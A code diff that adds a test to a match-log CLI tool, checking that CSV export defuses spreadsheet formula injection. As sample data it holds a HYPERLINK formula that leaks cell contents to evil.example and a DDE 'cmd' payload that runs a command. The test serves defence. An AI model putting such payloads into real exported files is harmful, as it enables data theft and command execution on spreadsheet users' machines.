@@ -70,6 +70,36 @@ def test_json_keeps_the_text_exact(store):
     assert rows[0]["p1"] == NAME and rows[0]["p1_deck"] == DECK and rows[0]["event"] == EVENT
 
 
+def test_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
+    """A player or deck named ``=HYPERLINK(...)``, ``@SUM(...)`` or ``-2+3+cmd|...`` went into every --format csv
+    as it was: a spreadsheet opening the file ran it. Such text gets a ``'`` before it (OWASP); numbers, and
+    a number's text, stay as they are; JSON keeps the text exact."""
+    import csv
+    import io
+
+    lines = (ROOT / "examples" / "legal" / "long-game-reload-win-by-life.zxlog").read_text("utf-8").splitlines()
+    header = json.loads(lines[0])
+    evil = {"P1": '=HYPERLINK("http://evil.example/?"&A1,"click")', "P2": "-2+3+cmd|' /C calc'!A0"}
+    for seat, name in evil.items():
+        header["players"][seat]["name"] = name
+    header["players"]["P1"]["deck_name"] = "@SUM(1+1)"
+    log = tmp_path / "f.zxlog"
+    log.write_text("\n".join([json.dumps(header), *lines[1:]]) + "\n", encoding="utf-8")
+    store = str(tmp_path / "s.sqlite")
+    assert CliRunner().invoke(zx, ["--store", store, "import", str(log)]).exit_code == 0
+    for args in (["matches"], ["stats", "winrates", "--by", "player"],
+                 ["sql", "SELECT p1_name, p2_name, p1_deck, -5 AS n, '-infinity'::DATE AS d FROM matches"]):
+        out = CliRunner().invoke(zx, ["--store", store, *args, "--format", "csv"])
+        assert out.exit_code == 0, out.output
+        cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "@", "+")) or (c.startswith("-") and c not in ("-5", "-infinity"))]
+        assert "'" + evil["P1"] in cells and "'" + evil["P2"] in cells, (args, cells)
+        if args[0] == "sql":
+            assert "'@SUM(1+1)" in cells and "-5" in cells and "-infinity" in cells
+    rows = json.loads(CliRunner().invoke(zx, ["--store", store, "matches", "--format", "json"]).stdout)
+    assert (rows[0]["p1"], rows[0]["p2"]) == (evil["P1"], evil["P2"])
+
+
 def test_stderr_lines_with_a_logs_text_are_escaped_too(tmp_path):
     """The lines zx import and zx audit print on stderr (a rejected match's error, the audit summary)
     carry a log's text (a match id may not hold control characters, a name may)."""
